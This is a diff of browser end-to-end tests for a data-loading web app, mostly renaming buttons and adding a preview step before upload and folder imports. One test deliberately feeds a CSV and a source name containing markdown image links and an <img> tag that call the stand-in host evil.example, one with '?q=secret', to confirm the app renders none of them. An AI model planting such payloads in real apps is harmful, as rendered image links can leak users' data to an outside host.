@@ -83,7 +83,7 @@ def test_leaving_the_page_lets_the_run_go_on(server: Server, tab: Watched) -> No
 def test_an_upload_with_hostile_names_loads_nothing(server: Server, tab: Watched) -> None:
     page = tab.page
     page.goto(f"{server.url}/Connect_data")
-    expect(page.get_by_text("Upload files")).to_be_visible(timeout=60_000)
+    expect(page.get_by_role("button", name="Check how they are read")).to_be_visible(timeout=60_000)
     tab.settle()
     body = "id,![x](http://evil.example/?q=secret),<img src=http://evil.example/a.png>\n" + "".join(
         f"{i},![y](http://evil.example/{i}),:red[{i}] $x$\n" for i in range(30)
@@ -92,8 +92,12 @@ def test_an_upload_with_hostile_names_loads_nothing(server: Server, tab: Watched
     page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
         {"name": name, "mimeType": "text/csv", "buffer": body.encode()}
     )
+    page.get_by_role("button", name="Check how they are read").click()
+    expect(page.get_by_text("Preview").first).to_be_visible(timeout=60_000)
+    tab.settle()
+    page.get_by_role("button", name="Go on to name and load").click()
     page.get_by_label("Name of the source").first.fill("![w](http://evil.example/c.png)")
-    page.get_by_role("button", name="Load files").click()
+    page.get_by_role("button", name="Load data").click()
     expect(page.get_by_text(re.compile("is loaded and active"))).to_be_visible(timeout=60_000)
     tab.settle()
     page.get_by_role("tab", name="Preview").click()
@@ -112,9 +116,11 @@ def test_the_real_bank_files_are_imported_from_a_folder(server: Server, tab: Wat
     page = tab.page
     page.goto(f"{server.url}/Connect_data")
     expect(page.get_by_text("Folder of this machine")).to_be_visible(timeout=60_000)
-    page.get_by_role("textbox", name="Folder path").fill(str(shared_data / "berka"))
-    page.get_by_role("textbox", name="Folder path").press("Enter")
-    page.get_by_role("button", name="Load folder").click()
+    page.get_by_role("textbox", name="Path of a folder").fill(str(shared_data / "berka"))
+    page.get_by_role("textbox", name="Path of a folder").press("Enter")
+    page.get_by_role("button", name="Check how it is read").click()
+    page.get_by_role("button", name="Go on to name and load").click(timeout=60_000)
+    page.get_by_role("button", name="Load data").click()
     expect(page.get_by_text(re.compile("is loaded and active"))).to_be_visible(timeout=90_000)
     tab.settle()
     expect(page.get_by_text("682 rows, 7 columns")).to_be_visible()
